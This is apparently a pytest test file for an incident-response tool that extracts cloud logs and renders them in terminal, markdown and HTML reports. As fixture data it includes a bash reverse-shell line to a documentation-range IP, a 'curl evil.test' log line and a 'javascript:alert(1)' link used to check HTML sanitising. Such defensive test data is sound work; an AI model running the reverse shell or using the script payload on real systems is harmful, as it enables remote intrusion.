"""The three logs as a person reads them: what was nearest, how much of it, or why there is none."""

from __future__ import annotations

import io

from rich.console import Console

from responder import report
from responder.evidence import Evidence, Missing
from responder.export import html
from responder.extracts import MOST, Extract, extracts
from responder.record import Decision, Guard, Signal, Triage
from responder.terminal import print_record
from tests.builders import EVENT_TIME, a_record
from tests.export.shared import audit, log

LINK = "https://console.cloud.google.com/logs/x"


def test_a_log_tells_its_lines_nearest_to_the_event_and_how_many_there_are() -> None:
    texts = [f"line {n}" for n in range(40)]
    record = a_record(evidence=Evidence(pod_log=log(*texts, truncated=True)), links={"logs_pod": LINK})
    pod = extracts(record)[0]
    assert pod.note == f"{MOST} of 40 that were read, and there are more"
    assert [text for _, text in pod.lines] == [f"ERROR {text}" for text in texts[:MOST]]
    assert (pod.link, pod.missing) == (LINK, False)
    assert html.page(record).count(f'href="{LINK}"') == 2
    unsafe = record.model_copy(update={"links": {"logs_pod": "javascript:alert(1)"}})
    assert 'href="' not in html.page(unsafe)


def test_the_line_that_a_sign_rests_on_is_shown_however_far_from_the_event_it_is() -> None:
    texts = [*(f"line {n}" for n in range(40)), "bash -i >& /dev/tcp/198.51.100.7/4444"]
    at = ("/evidence/pod_log/value/entries/40",)
    sign = Signal(id="L3", title="a shell", weight=35, source="logs", evidence=at, outside=True)
    triage = Triage(verdict="malicious", summary="", signals=(sign,))
    pod = extracts(a_record(evidence=Evidence(pod_log=log(*texts)), triage=triage))[0]
    assert [text for _, text in pod.lines] == [f"ERROR {text}" for text in (*texts[: MOST - 1], texts[-1])]


def test_a_session_says_who_came_from_where_and_ran_what() -> None:
    evidence = Evidence(audit_log=audit("x y"))
    (line,) = extracts(a_record(evidence=evidence))[1].lines
    assert line == (EVENT_TIME, "exec by x y from x y: sh -c 'x y' (x y)")


def test_a_log_that_could_not_be_read_says_why_and_an_empty_one_that_it_is_empty() -> None:
    evidence = Evidence(pod_log=log(), node_log=Missing(why="denied", detail="logging.entries.list"))
    pod, _, node = extracts(a_record(evidence=evidence))
    assert pod == Extract("pod log", "asked, and there is nothing", (), "", missing=False)
    assert node == Extract("node and serial console", "missing: denied, logging.entries.list", (), "", missing=True)


def test_terminal_markdown_and_page_show_the_logs_and_each_guard_that_did_not_say_yes() -> None:
    guards = (
        Guard(name="pod-proven", ok=True, detail="uid"),
        Guard(name="brake", ok=False, detail="it is on"),
        Guard(name="quorum", ok=None, detail="no budget was read"),
    )
    record = a_record(
        evidence=Evidence(pod_log=log("curl evil.test")), decision=Decision(reasons=("r",), guards=guards)
    )
    out = io.StringIO()
    print_record(record, Console(file=out, width=120))
    for shown in (out.getvalue(), report.markdown(record).replace("\\", ""), html.page(record)):
        assert "curl evil.test" in shown
        assert "brake: no: it is on" in shown
        assert "quorum: not answered: no budget was read" in shown
        assert "1 of 3 say yes" in shown
        assert "pod-proven" not in shown
